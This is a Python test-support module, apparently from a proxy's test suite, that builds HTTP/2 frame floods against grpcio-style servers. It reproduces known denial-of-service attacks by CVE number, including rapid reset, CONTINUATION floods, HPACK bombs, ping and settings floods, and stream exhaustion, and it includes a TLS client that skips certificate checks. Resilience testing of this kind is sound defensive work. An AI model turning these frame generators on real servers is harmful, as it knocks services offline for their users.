# SPDX-License-Identifier: Apache-2.0
"""What HTTP/2 peers do to servers, as frames: for the doors that grpcio answers.

`attack` sends one of ATTACKS on a connection until it is closed by the other end or all is sent, and reads nothing
unless the kernel has to; whoever calls looks whether others are served meanwhile, and what it cost.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import ssl
import struct
import threading
from collections.abc import Callable, Iterator

from tests.mtls.proxy.http.test_traps_http2 import integer, literal

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
MIB = 1 << 20


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(path: bytes) -> bytes:
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":authority", b"localhost"),
        (b":path", path),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return b"".join(literal(*field) for field in fields)


def rapid_reset(path: bytes) -> Iterator[bytes]:
    """CVE-2023-44487."""
    for stream in range(1, 100_000, 2):
        yield frame(HEADERS, END_HEADERS, stream, head(path)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuation(path: bytes) -> Iterator[bytes]:
    """CVE-2024-27316 and its kind: a head that never ends."""
    yield frame(HEADERS, 0, 1, head(path))
    for number in range(4096):
        yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % number, b"y" * 16_000))


def empty_continuation(path: bytes) -> Iterator[bytes]:
    """The same with frames that hold nothing."""
    yield frame(HEADERS, 0, 1, head(path))
    for _ in range(500):
        yield frame(CONTINUATION, 0, 1) * 1000


def bomb(path: bytes) -> Iterator[bytes]:
    """A field of 4 KiB in HPACK's table, named 15,000 times a head in one byte each."""
    first = head(path) + literal(b"x", b"y" * 3900, 0x40)
    for stream in range(1, 2000, 2):
        yield frame(HEADERS, END_HEADERS, stream, first + integer(62, 7, 0x80) * 12_000)


def indexed(path: bytes) -> Iterator[bytes]:
    """A field of the static table, named a million times in one byte each."""
    yield frame(HEADERS, 0, 1, head(path))
    for _ in range(64):
        yield frame(CONTINUATION, 0, 1, integer(16, 7, 0x80) * 16_000)
    yield frame(CONTINUATION, END_HEADERS, 1)


def indexed_often(path: bytes) -> Iterator[bytes]:
    """The same, 15,000 times in each of a thousand heads."""
    for stream in range(1, 2000, 2):
        yield frame(HEADERS, END_HEADERS, stream, head(path) + integer(16, 7, 0x80) * 15_000)


def new_names(path: bytes) -> Iterator[bytes]:
    """CVE-2021-44716: a server that remembers every name of a field it has ever seen."""
    for stream in range(1, 20_000, 2):
        names = b"".join(literal(b"n%d-%d" % (stream, number), b"v", 0x40) for number in range(50))
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head(path) + names)


def pings(_: bytes) -> Iterator[bytes]:
    """CVE-2019-9512: answers that nobody reads."""
    for _ in range(500):
        yield frame(PING, 0, 0, bytes(8)) * 1000


def settings(_: bytes) -> Iterator[bytes]:
    """CVE-2019-9515: acknowledgements that nobody reads."""
    for _ in range(500):
        yield frame(SETTINGS, 0, 0) * 1000


def priorities(_: bytes) -> Iterator[bytes]:
    """CVE-2019-9513: a tree of priorities that is built anew all the time."""
    for stream in range(1, 200_000, 2):
        yield frame(PRIORITY, 0, stream + 2, struct.pack(">IB", stream, 1)) * 4


def empty_data(path: bytes) -> Iterator[bytes]:
    """CVE-2019-9518: frames that carry nothing, on a stream that stays open."""
    yield frame(HEADERS, END_HEADERS, 1, head(path))
    for _ in range(500):
        yield frame(DATA, 0, 1) * 1000


def huge_message(path: bytes) -> Iterator[bytes]:
    """A message of 4 GiB, as its length says."""
    yield frame(HEADERS, END_HEADERS, 1, head(path)) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff")
    for _ in range(4096):
        yield frame(DATA, 0, 1, bytes(16_000))


def open_streams(path: bytes) -> Iterator[bytes]:
    """Streams that are opened and left, as many as there are numbers for."""
    for stream in range(1, 100_000, 2):
        yield frame(HEADERS, END_HEADERS, stream, head(path))


Attack = Callable[[bytes], Iterator[bytes]]
ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        continuation,
        empty_continuation,
        bomb,
        indexed,
        indexed_often,
        new_names,
        pings,
        settings,
        priorities,
        empty_data,
        huge_message,
        open_streams,
    )
}


def tls_socket(address: str) -> socket.socket:
    """Connect as anybody, without a certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    host, port = address.rsplit(":", 1)
    return context.wrap_socket(socket.create_connection((host, int(port)), timeout=5))


def unix_socket(path: str) -> socket.socket:
    made = socket.socket(socket.AF_UNIX)
    made.settimeout(5)
    made.connect(path)
    return made


def attack(made: socket.socket, frames: Iterator[bytes], ended: threading.Event) -> None:
    """Send until the other end has had enough, takes nothing any more, or all is sent; then set the event."""
    with contextlib.suppress(OSError), made:
        made.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for some in frames:
            made.sendall(some)
    ended.set()


def memory() -> int:
    """The most memory that this process has had, bytes."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
